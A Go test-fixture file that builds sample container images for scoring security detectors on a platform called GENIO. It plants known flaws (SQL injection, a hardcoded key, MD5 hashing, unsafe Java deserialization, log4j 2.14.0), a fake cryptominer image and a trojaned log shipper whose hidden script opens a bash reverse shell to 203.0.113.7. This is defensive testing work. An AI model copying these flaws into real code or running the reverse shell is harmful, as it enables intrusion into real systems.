@@ -1,0 +1,164 @@
+package container
+
+// Fixture images used across the application-security experiments. They
+// model the three kinds of workloads business users ship to GENIO: a
+// vulnerable-but-legitimate REST service, a non-REST ML workload, and
+// deliberately malicious images (T8). Planted findings are annotated so
+// tests can assert detector precision and recall.
+
+// IoTGatewayImage returns a Python REST API with deliberately planted
+// weaknesses: a hardcoded credential, weak hashing, an SQL injection sink
+// (SAST targets), vulnerable dependencies both reachable and unreachable
+// (SCA precision, Lesson 7), root execution, and an exposed debug port.
+func IoTGatewayImage() *Image {
+	return &Image{
+		Name: "acme/iot-gateway",
+		Tag:  "1.4.2",
+		Layers: []Layer{
+			{Files: []File{
+				{Path: "/app/server.py", Mode: 0o644, Content: []byte(`
+import flask, hashlib, sqlite3
+API_KEY = "sk_live_51HxTotallyRealKey"  # hardcoded credential
+def login(user, pw):
+    digest = hashlib.md5(pw.encode()).hexdigest()  # weak hash
+    q = "SELECT * FROM users WHERE name='" + user + "'"  # sql injection
+    return sqlite3.connect("db").execute(q)
+`)},
+				{Path: "/app/util.py", Mode: 0o644, Content: []byte(`
+import requests
+def fetch(url):
+    return requests.get(url, verify=False)  # tls verification disabled
+`)},
+				{Path: "/app/openapi.json", Mode: 0o644, Content: []byte(`{"paths":{"/login":{},"/devices":{}}}`)},
+			}},
+			{Files: []File{
+				{Path: "/app/requirements.txt", Mode: 0o644, Content: []byte("flask==0.12\nrequests==2.19.0\npyyaml==3.12\nleft-unused==1.0\n")},
+			}},
+		},
+		Config: Config{
+			Entrypoint:   []string{"python", "/app/server.py"},
+			User:         "root", // docker-bench finding
+			ExposedPorts: []int{8080, 9229},
+			HasRESTAPI:   true,
+		},
+		Dependencies: []Dependency{
+			{Name: "flask", Version: "0.12", Language: "python", Direct: true, Reachable: true},
+			{Name: "requests", Version: "2.19.0", Language: "python", Direct: true, Reachable: true},
+			{Name: "pyyaml", Version: "3.12", Language: "python", Direct: true, Reachable: false},      // imported, never called
+			{Name: "left-unused", Version: "1.0", Language: "python", Direct: false, Reachable: false}, // transitive, unused
+			{Name: "urllib3", Version: "1.23", Language: "python", Direct: false, Reachable: true},
+		},
+	}
+}
+
+// MLInferenceImage returns a Java batch workload with no REST surface —
+// the case where fuzzing is infeasible (Lesson 7) — carrying one vulnerable
+// reachable dependency.
+func MLInferenceImage() *Image {
+	return &Image{
+		Name: "acme/ml-inference",
+		Tag:  "0.9.0",
+		Layers: []Layer{
+			{Files: []File{
+				{Path: "/app/Inference.java", Mode: 0o644, Content: []byte(`
+import java.io.ObjectInputStream;
+class Inference {
+    Object load(java.io.InputStream in) throws Exception {
+        return new ObjectInputStream(in).readObject(); // unsafe deserialization
+    }
+}
+`)},
+				{Path: "/app/model.bin", Mode: 0o644, Content: []byte("weights")},
+			}},
+		},
+		Config: Config{
+			Entrypoint: []string{"java", "-jar", "/app/inference.jar"},
+			User:       "mluser",
+			HasRESTAPI: false,
+		},
+		Dependencies: []Dependency{
+			{Name: "log4j-core", Version: "2.14.0", Language: "java", Direct: true, Reachable: true},
+			{Name: "guava", Version: "31.0", Language: "java", Direct: true, Reachable: true},
+			{Name: "commons-text", Version: "1.9", Language: "java", Direct: false, Reachable: false},
+		},
+	}
+}
+
+// AnalyticsImage returns a well-built workload: non-root, no extra
+// capabilities, current dependencies, no planted weaknesses. It is the
+// true-negative control for detector precision.
+func AnalyticsImage() *Image {
+	return &Image{
+		Name: "acme/analytics",
+		Tag:  "2.0.1",
+		Layers: []Layer{
+			{Files: []File{
+				{Path: "/app/main.py", Mode: 0o644, Content: []byte(`
+import hashlib
+def checksum(data: bytes) -> str:
+    return hashlib.sha256(data).hexdigest()
+`)},
+				{Path: "/app/openapi.json", Mode: 0o644, Content: []byte(`{"paths":{"/metrics":{}}}`)},
+			}},
+		},
+		Config: Config{
+			Entrypoint:   []string{"python", "/app/main.py"},
+			User:         "analytics",
+			ExposedPorts: []int{8443},
+			HasRESTAPI:   true,
+		},
+		Dependencies: []Dependency{
+			{Name: "flask", Version: "2.3.0", Language: "python", Direct: true, Reachable: true},
+			{Name: "requests", Version: "2.31.0", Language: "python", Direct: true, Reachable: true},
+		},
+	}
+}
+
+// CryptominerImage returns a deliberately malicious image (T8): embedded
+// miner strings YARA rules catch, CAP_SYS_ADMIN for container escape
+// attempts, and root execution.
+func CryptominerImage() *Image {
+	return &Image{
+		Name: "freestuff/optimizer",
+		Tag:  "latest",
+		Layers: []Layer{
+			{Files: []File{
+				{Path: "/usr/bin/optimizer", Mode: 0o755, Content: []byte(
+					"\x7fELF...stratum+tcp://pool.minexmr.example:4444...xmrig/6.16.4...donate-level")},
+				{Path: "/etc/miner.json", Mode: 0o644, Content: []byte(`{"pool":"stratum+tcp://pool.minexmr.example:4444","wallet":"44Affq..."}`)},
+			}},
+		},
+		Config: Config{
+			Entrypoint:   []string{"/usr/bin/optimizer"},
+			User:         "root",
+			Capabilities: []string{"CAP_SYS_ADMIN"},
+		},
+		Dependencies: []Dependency{
+			{Name: "musl", Version: "1.2.2", Language: "os", Direct: false, Reachable: true},
+		},
+	}
+}
+
+// BackdoorImage returns a trojaned utility image (T8): looks like a log
+// shipper but carries a reverse shell and attempts privileged syscalls at
+// runtime.
+func BackdoorImage() *Image {
+	return &Image{
+		Name: "freestuff/log-shipper",
+		Tag:  "3.1",
+		Layers: []Layer{
+			{Files: []File{
+				{Path: "/usr/bin/shipper", Mode: 0o755, Content: []byte("legit-looking-binary")},
+				{Path: "/usr/lib/.hidden/rsh.sh", Mode: 0o755, Content: []byte(
+					"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n")},
+			}},
+		},
+		Config: Config{
+			Entrypoint: []string{"/usr/bin/shipper"},
+			User:       "root",
+		},
+		Dependencies: []Dependency{
+			{Name: "busybox", Version: "1.30.1", Language: "os", Direct: false, Reachable: true},
+		},
+	}
+}
